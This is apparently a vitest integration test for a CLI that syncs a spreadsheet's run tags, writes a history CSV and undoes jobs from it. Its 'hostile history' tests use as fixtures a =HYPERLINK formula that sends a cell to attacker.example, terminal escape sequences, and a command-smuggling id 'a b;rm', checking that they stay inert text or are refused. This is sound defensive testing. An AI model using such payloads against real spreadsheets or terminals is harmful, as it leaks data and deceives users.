// `npm start` keeps the history beside the sheet and undoes a job from it (issue 18): each job's id printed with
// the command that undoes it, `<name>.history.csv` written and appended across runs, `--undo <id>` in a later
// run through Undo a sync… (Yes, or No with --no), the stand-in's runs back as they were before the sync, and
// every refusal (unknown id, no history, a foreign or over-long file, contradictory flags) one line, exit 2,
// before anything starts. Real processes: dev/start.ts on the built bundle, against a stand-in process.
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type StandInClient, startStandInProcess } from "../../dev/stand-in/process.js";
import { seededRunIds } from "../../dev/stand-in/runs.js";
import type { StoredRun } from "../../dev/stand-in/types.js";

const KEY = "start-history-key-not-secret";
const REPO = join(import.meta.dirname, "../..");
const TAGS = "extend:usage_tags";
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
/** Clears the screen, retitles the terminal window, rings the bell. */
const ESCAPES = "\u001b[2J\u001b]0;owned\u0007Invoices\r";
// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters a terminal would obey.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let extend: StandInClient;
let folder: string;
beforeAll(async () => {
  extend = await startStandInProcess({ apiKey: KEY, runCount: 10, rate: 0 });
  folder = mkdtempSync(join(tmpdir(), "start-history-"));
});
afterAll(async () => {
  await extend?.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

function start(args: string[], baseUrl?: string) {
  return spawnSync(
    process.execPath,
    ["--import", "tsx", join(REPO, "dev/start.ts"), ...args, ...(baseUrl ? ["--base-url", baseUrl] : [])],
    {
      cwd: REPO,
      env: { ...process.env, EXTEND_API_KEY: baseUrl ? KEY : undefined, COLUMNS: "200" },
      encoding: "utf8",
      timeout: 120_000,
    },
  );
}

/** The job id npm start printed for its (last) job, and the undo command it printed with it. */
function printedJob(stdout: string): { id: string; undo: string | undefined } {
  const ids = [...stdout.matchAll(/^Job id \(the run log's Sync ID\): ([\w-]+), /gm)].map(
    (match) => match[1],
  );
  const undo = [...stdout.matchAll(/To undo them?: (npm start -- .+)$/gm)].map((match) => match[1]);
  return { id: ids.at(-1) ?? "", undo: undo.at(-1) };
}

const records = (path: string): Record<string, string>[] =>
  parse(readFileSync(path, "utf8").replace(/^\uFEFF/, ""), { columns: true, bom: false }) as Record<
    string,
    string
  >[];

const metadataOf = async (ids: readonly string[]) =>
  (await extend.getRuns(ids)).map((run) => structuredClone(run?.metadata ?? {}));

// Up to four `npm start` processes one after another in a test: on a loaded 2-core machine that passed the
// default 60 s. (The refusal test's check that dist/Code.js was not rebuilt stays true because the one test file
// that rebuilds it, start.test.ts, runs in an earlier group: vitest.config.ts.)
describe("npm start keeps the history and undoes a job from it", { timeout: 180_000 }, () => {
  it("with the local stand-in: the sync prints its id and undo command, a second npm start --undo puts the runs back", () => {
    const input = join(folder, "local.csv");
    const ids = seededRunIds(3);
    writeFileSync(input, ["Run ID,Tags", ...ids.map((id, index) => `${id},"mine, t${index}"`)].join("\n"));
    const sync = start([input]);
    expect(sync.stderr).toBe("");
    expect(sync.status).toBe(0);
    const job = printedJob(sync.stdout);
    expect(job.id).toMatch(/^[\w-]+$/);
    expect(sync.stdout).toContain(`Its 3 changes are recorded in ${join(folder, "local.history.csv")}.`);
    expect(job.undo).toBe(`npm start -- ${input} --undo ${job.id}`);
    const history = records(join(folder, "local.history.csv"));
    expect(history.map((row) => [row["Job ID"], row["Run ID"], row["History State"]])).toEqual(
      ids.map((id) => [job.id, id, "Applied"]),
    );

    const undo = start([input, "--undo", job.id]);
    expect(undo.stderr).toBe("");
    expect(undo.status).toBe(0);
    // The fresh stand-in got the sync's changes first, so every run still holds what the sync set.
    expect(undo.stdout).toContain("the 3 changes that");
    expect(undo.stdout).toContain(`→ npm start typed ${job.id} and pressed OK for you, as --undo asks.`);
    expect(undo.stdout).toContain("[Undo this sync?]");
    expect(undo.stdout).toContain("npm start answered Yes for you.");
    expect(undo.stdout).toContain("Undo finished: 3 runs put back as they were");
    expect(undo.stdout).toContain("No run was skipped as changed since that job.");
    expect(undo.stdout).toMatch(/Stand-in received 3 updates \(3 applied\)/);
    const undoJob = printedJob(undo.stdout);
    expect(undoJob.id).not.toBe(job.id);
    expect(undoJob.undo).toBe(`npm start -- ${input} --undo ${undoJob.id}`);
    // Appended: the sync's records (now marked by the undo) and the undo's own.
    const after = records(join(folder, "local.history.csv"));
    expect(after.filter((row) => row["Job ID"] === job.id)).toHaveLength(3);
    // Failed once with 3 vitest workers on a loaded machine (not reproduced since): the message keeps the evidence.
    expect(
      after.filter((row) => row["Job ID"] === undoJob.id && row.Job === `undo of ${job.id}`),
      `undo ${undoJob.id} of ${job.id}; history ${JSON.stringify(after.map((row) => [row["Job ID"], row.Job, row["History State"]]))}; undo printed: ${undo.stdout.slice(-3000)}`,
    ).toHaveLength(3);
    expect(after.filter((row) => row["Job ID"] === job.id).map((row) => row["Sync Result"])).toEqual([
      "Updated",
      "Updated",
      "Updated",
    ]);
  });

  it("with the local stand-in over three runs: an undo of a sync a later sync changed again skips its runs; the later one undoes", () => {
    const input = join(folder, "twice.csv");
    const ids = seededRunIds(5).slice(3);
    const sheet = (tag: string) => ["Run ID,Tags", ...ids.map((id) => `${id},${tag}`)].join("\n");
    writeFileSync(input, sheet("first"));
    const first = printedJob(start([input]).stdout).id;
    writeFileSync(input, sheet("second"));
    const second = start([input]);
    expect(second.stdout).toContain("the 2 changes that");
    const later = printedJob(second.stdout).id;

    const undoFirst = start([input, "--undo", first]);
    expect(undoFirst.status).toBe(0);
    expect(undoFirst.stdout).toContain(`2 runs were skipped as changed since that job`);
    expect(undoFirst.stdout).toContain("Extend now holds tags second");
    expect(undoFirst.stdout).toMatch(/Stand-in received 0 updates/);

    const undoLater = start([input, "--undo", later]);
    expect(undoLater.status).toBe(0);
    expect(undoLater.stdout).toContain("the 4 changes that");
    expect(undoLater.stdout).toContain("Undo finished: 2 runs put back as they were");
    expect(undoLater.stdout).toMatch(/Stand-in received 2 updates \(2 applied\)/);
  });

  it("against a stand-in by URL: --no sends nothing, then --undo restores every run as it was before the sync and skips one changed since", async () => {
    const ids = seededRunIds(4);
    const before = await metadataOf(ids);
    const input = join(folder, "remote.csv");
    writeFileSync(
      input,
      ["Run ID,Tags,metadata.costCenter", ...ids.map((id, index) => `${id},synced,CC-${index}`)].join("\n"),
    );
    const sync = start([input], extend.url);
    expect(sync.status).toBe(0);
    const { id } = printedJob(sync.stdout);
    const synced = await metadataOf(ids);
    expect(synced.map((metadata) => metadata.costCenter)).toEqual(["CC-0", "CC-1", "CC-2", "CC-3"]);

    const sent = (await extend.stats()).updateRequests.length;
    const declined = start([input, "--undo", id, "--no"], extend.url);
    expect(declined.status).toBe(0);
    expect(declined.stdout).toContain("npm start answered No for you, as --no asks.");
    expect(declined.stdout).toContain("The undo did not start: nothing was sent");
    expect(declined.stdout).not.toMatch(/^Job id/m);
    expect((await extend.stats()).updateRequests.length).toBe(sent);
    expect(await metadataOf(ids)).toEqual(synced);

    // Another client changes one run after the sync: the undo leaves it as they set it.
    await extend.addRuns([{ id: ids[2] ?? "", metadata: { [TAGS]: ["theirs"] } }]);
    const undo = start([input, "--undo", id], extend.url);
    expect(undo.stderr).toBe("");
    expect(undo.status).toBe(0);
    expect(undo.stdout).toContain(`1 run was skipped as changed since that job`);
    expect(undo.stdout).toContain(ids[2]);
    expect(undo.stdout).toMatch(/CHANGED_SINCE: Not undone/);
    const after = await metadataOf(ids);
    ids.forEach((_, index) => {
      if (index === 2) expect(after[index]?.[TAGS]).toEqual(["theirs"]);
      else expect(withoutEmpty(after[index] ?? {})).toEqual(before[index]);
    });
  });

  it("refuses, in one line with exit code 2 and before anything starts: an unknown id (listing the known ones), no history, contradictory flags", () => {
    const input = join(folder, "remote.csv");
    // A job id of digits only is written '48340917, as Sheets keeps text that would read as a number; the
    // listing names it as the person types it.
    const known = records(join(folder, "remote.history.csv")).map((row) =>
      (row["Job ID"] ?? "").replace(/^'/, ""),
    );
    const bundle = join(REPO, "dist/Code.js");
    const builtAt = statSync(bundle).mtimeMs;
    const unknown = spawnSync("npm", ["start", "--", input, "--undo", "nosuchjob"], {
      cwd: REPO,
      env: { ...process.env, EXTEND_API_KEY: undefined },
      encoding: "utf8",
      timeout: 60_000,
    });
    expect(unknown.status).toBe(2);
    expect(unknown.stderr.trimEnd().split("\n")).toHaveLength(1);
    expect(unknown.stderr).toContain(
      'has no job with the id "nosuchjob". The ids it records, newest first: ',
    );
    for (const id of new Set(known)) expect(unknown.stderr).toContain(id);
    expect(unknown.stdout).not.toMatch(/Building|stand-in/);
    expect(statSync(bundle).mtimeMs).toBe(builtAt);

    const cases: [string[], RegExp][] = [
      [
        [join(folder, "never-synced.csv"), "--undo", "abc"],
        /There is no history to undo from: .*never-synced\.history\.csv does not exist/,
      ],
      [[input, "--undo", "abc", "--refresh"], /--undo .* takes no --import, --refresh or --tag-mode/],
      [[input, "--undo", "abc", "--tag-mode", "add"], /takes no --import, --refresh or --tag-mode/],
      [["--import", join(folder, "out.csv"), "--undo", "abc"], /takes no --import, --refresh or --tag-mode/],
      [[input, "--undo", "a b;rm"], /--undo takes a job id \(letters, digits and dashes\)/],
    ];
    for (const [args, message] of cases) {
      const run = start(args);
      expect(run.status, args.join(" ")).toBe(2);
      expect(run.stderr.trimEnd().split("\n")).toHaveLength(1);
      expect(run.stderr).toMatch(message);
      expect(run.stdout).toBe("");
    }
  });
});

/** What an undo leaves where a run lacked a key: null (an empty list for the tags), dropped to compare. */
function withoutEmpty(metadata: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(metadata).filter(
      ([key, value]) => value !== null && !(key === TAGS && Array.isArray(value) && value.length === 0),
    ),
  );
}

describe("a hostile history", () => {
  const HOSTILE_RUN = "workflow_run_historyHostileAAAAAAA1";
  const hostile: Partial<StoredRun> & { id: string } = {
    id: HOSTILE_RUN,
    metadata: { [TAGS]: [HYPERLINK, ESCAPES], costCenter: `${HYPERLINK}${ESCAPES}`, note: "+SUM(1,2)" },
  };

  it("values from a hostile server never become formulas in history.csv, keep the BOM and separator, and the undo restores them exactly", async () => {
    await extend.addRuns([hostile]);
    const input = join(folder, "hostile.csv");
    writeFileSync(
      input,
      `\uFEFFRun ID;Tags;metadata.costCenter;metadata.note\r\n${HOSTILE_RUN};plain;CC;N\r\n`,
    );
    const sync = start([input], extend.url);
    expect(sync.stderr).toBe("");
    expect(sync.status).toBe(0);
    expect(sync.stdout).not.toMatch(CONTROL);
    const path = join(folder, "hostile.history.csv");
    const text = readFileSync(path, "utf8");
    expect(text.startsWith("\uFEFFJob ID;Job;Time;")).toBe(true);
    const fields = (parse(text.slice(1), { delimiter: ";", relax_column_count: true }) as string[][]).flat();
    expect(fields.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
    expect(fields).toContain(`'${HYPERLINK}, ${ESCAPES}`);

    const { id } = printedJob(sync.stdout);
    const undo = start([input, "--undo", id], extend.url);
    expect(undo.stderr).toBe("");
    expect(undo.status).toBe(0);
    expect(undo.stdout).not.toMatch(CONTROL);
    expect(undo.stdout).toContain("Undo finished: 1 runs put back as they were");
    const [restored] = await metadataOf([HOSTILE_RUN]);
    // Every metadata value exactly as before; the tags as the stand-in keeps any tag it is sent (sanitised).
    expect(restored?.costCenter).toBe(hostile.metadata?.costCenter);
    expect(restored?.note).toBe("+SUM(1,2)");
    expect(readFileSync(path, "utf8").startsWith("\uFEFFJob ID;")).toBe(true);
  });

  it("a formula and control characters put in history.csv by hand stay text, and the undo still works", async () => {
    const ids = seededRunIds(2);
    const input = join(folder, "edited.csv");
    writeFileSync(input, ["Run ID,metadata.costCenter", `${ids[0]},E0`, `${ids[1]},E1`].join("\n"));
    const sync = start([input], extend.url);
    const { id } = printedJob(sync.stdout);
    const path = join(folder, "edited.history.csv");
    const rows = parse(readFileSync(path, "utf8")) as string[][];
    const sheetColumn = rows[0]?.indexOf("Sheet") ?? -1;
    const whoColumn = rows[0]?.indexOf("Started By") ?? -1;
    for (const row of rows.slice(1)) {
      row[sheetColumn] = HYPERLINK;
      row[whoColumn] = ESCAPES;
    }
    writeFileSync(
      path,
      rows.map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(",")).join("\n"),
    );

    const undo = start([input, "--undo", id], extend.url);
    expect(undo.stderr).toBe("");
    expect(undo.status).toBe(0);
    expect(undo.stdout).not.toMatch(CONTROL);
    expect(undo.stdout).toContain(`sheet "${HYPERLINK}"`);
    expect(undo.stdout).toContain("Undo finished: 2 runs put back as they were");
    const written = parse(readFileSync(path, "utf8")) as string[][];
    expect(written.slice(1).map((row) => row[sheetColumn])).toContain(`'${HYPERLINK}`);
  });

  it.each([
    [
      "a cell of 60,000 characters",
      (header: string) => `${header}\nx,sync,,,${"~".repeat(60_000)}\n`,
      /row 2: a cell of 60,000 characters, and a sheet cell holds at most 50,000/,
    ],
    [
      "a file of another tool",
      () => "Date,Amount\n2026-01-01,=1+1\n",
      /is not a history npm start wrote: its first line lacks the columns Job ID, /,
    ],
    ["a file that is not UTF-8", () => "Job ID\n\xff\xfe\n", /is not UTF-8 text/],
  ])("refuses %s in one line, exit code 2", (_, content, message) => {
    const input = join(folder, "foreign.csv");
    const header =
      "Job ID,Job,Time,Started By,Sheet,Row,Run ID,Tag Mode,Tags Before,Tags Sent,Values Before,Values Sent,History State";
    const text = content(header);
    writeFileSync(
      join(folder, "foreign.history.csv"),
      /\xff/.test(text) ? Buffer.from(text, "latin1") : text,
    );
    for (const args of [[input, "--undo", "x"], [input]]) {
      writeFileSync(input, "Run ID\n");
      const run = start(args);
      expect(run.status).toBe(2);
      expect(run.stderr.trimEnd().split("\n")).toHaveLength(1);
      expect(run.stderr).toMatch(message);
      expect(run.stdout).toBe("");
    }
  });
});
